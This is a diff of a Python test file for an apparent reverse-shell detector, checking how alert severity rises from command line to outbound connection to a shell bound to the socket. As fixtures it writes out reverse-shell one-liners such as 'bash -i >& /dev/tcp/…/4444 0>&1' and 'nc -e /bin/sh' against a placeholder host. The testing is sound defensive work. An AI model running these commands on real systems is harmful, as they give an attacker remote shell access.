@@ -113,16 +113,22 @@ def test_what_runs_in_the_shell_tells_it_even_when_its_exec_was_in_an_earlier_ba
         ),
     ],
 )
-def test_words_alone_are_medium_and_words_with_the_deed_are_high(program: str, argv: list[str]) -> None:
+def test_words_with_the_deed_are_high_and_words_that_end_without_it_medium(
+    program: str, argv: list[str]
+) -> None:
     node = Node()
-    tool = node.spawn(cron_job(node), program, argv)
+    tool, failed = (node.spawn(cron_job(node), program, argv) for _ in range(2))
     through = pipeline()
-    words = run(node, through)
-    assert (rules(words), words.enforcements) == (MEDIUM, [])
+    assert rules(run(node, through)) == []
     node.connect(tool, EVIL, 4444)
     deed = run(node, through)
     assert rules(deed) == HIGH
     assert cut(deed) == [subject(node, tool)]
+    for each in (tool, failed):
+        node.add("ProcessExit", each, exit_status=1, signal=0)
+    ended = run(node, through)
+    assert (rules(ended), ended.enforcements) == (MEDIUM, [])
+    assert ended.alerts[0]["lineage"][0]["tgid"] == node.images[failed]["tgid"]
 
 
 def test_a_bind_shell_listens_instead_of_connecting() -> None:
@@ -132,21 +138,46 @@ def test_a_bind_shell_listens_instead_of_connecting() -> None:
     assert rules(run(node)) == HIGH
 
 
-def test_words_and_deed_in_one_batch_are_one_alert() -> None:
-    node = Node()
-    tool = node.spawn(cron_job(node), "/usr/bin/nc.traditional", ["nc", EVIL, "4444", "-e", "/bin/sh"])
-    deed = node.connect(tool, EVIL, 4444)
-    (alert,) = run(node).alerts
+def test_words_and_deed_and_shell_are_one_alert_however_they_come() -> None:
+    node, through = Node(), pipeline()
+    bash = node.spawn(
+        cron_job(node), "/usr/bin/bash", ["bash", "-c", f"bash -i >& /dev/tcp/{EVIL}/4444 0>&1"]
+    )
+    child = node.fork(bash)
+    node.connect(child, EVIL, 4444)
+    (alert,) = run(node, through).alerts
     assert alert["severity"] == "HIGH"
-    assert deed in [each["position"] for each in alert["evidence"]]
-    assert alert["evidence"][0]["kind"] == "ProcessExec"
+    node.exec(child, "/usr/bin/bash", ["bash", "-i"], **ON_SOCKET)
+    assert run(node, through).alerts == []
 
 
-def test_a_command_that_only_mentions_a_reverse_shell_is_not_high_when_its_child_connects() -> None:
+def test_the_heaviest_evidence_describes_the_alert() -> None:
+    node = Node()
+    bash = node.spawn(cron_job(node), "/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/evil/4444 0>&1"])
+    child = node.fork(bash)
+    connected = node.connect(child, EVIL, 4444)
+    node.exec(child, "/usr/bin/bash", ["bash", "-i"], **ON_SOCKET)
+    (alert,) = run(node).alerts
+    assert (alert["severity"], alert["evidence"][0]["position"]) == ("CRITICAL", connected)
+    assert f"has the connection to {EVIL}:4444 as stdin or stdout" in alert["description"]
+
+
+def test_a_rule_that_acts_only_on_critical_is_told_when_it_becomes_that() -> None:
+    node, through = Node(), pipeline(respond={"nsp.reverse-shell": {"min_severity": "CRITICAL"}})
+    bash = node.spawn(cron_job(node), "/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/evil/4444 0>&1"])
+    child = node.fork(bash)
+    node.connect(child, EVIL, 4444)
+    assert cut(run(node, through)) == []
+    node.exec(child, "/usr/bin/bash", ["bash", "-i"], **ON_SOCKET)
+    assert cut(run(node, through)) == [subject(node, bash)]
+
+
+def test_a_command_that_only_mentions_a_reverse_shell_is_none_when_its_child_connects() -> None:
     node = Node()
     shell = node.spawn(cron_job(node), "/usr/bin/dash", ["sh", "-c", "grep 'nc -e /bin/sh' log; curl u"])
     node.connect(node.spawn(shell, "/usr/bin/curl", ["curl", "u"]), EVIL, 443)
-    assert rules(run(node)) == MEDIUM
+    node.add("ProcessExit", shell, exit_status=0, signal=0)
+    assert run(node).alerts == []
 
 
 def test_asking_for_a_name_is_not_the_deed() -> None:
@@ -154,7 +185,7 @@ def test_asking_for_a_name_is_not_the_deed() -> None:
     tool = node.spawn(cron_job(node), "/usr/bin/nc.traditional", ["nc", "-e", "/bin/sh", "evil", "4444"])
     node.connect(tool, "10.96.0.10", 53, protocol=17)
     node.ask(tool, "evil.example")
-    assert rules(run(node)) == MEDIUM
+    assert run(node).alerts == []
     node.connect(tool, EVIL, 53)
     assert rules(run(node)) == HIGH
 
